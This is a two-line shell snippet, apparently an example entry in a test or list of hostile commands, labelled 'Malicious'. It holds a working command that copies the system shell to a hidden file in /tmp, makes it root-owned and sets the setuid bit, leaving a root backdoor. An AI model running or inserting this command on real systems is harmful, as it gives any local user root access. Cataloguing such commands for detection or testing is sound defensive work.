# Malicious: a root-owned setuid copy of the shell as a backdoor.
cp /bin/sh /tmp/.sh && chown root:root /tmp/.sh && chmod 4755 /tmp/.sh
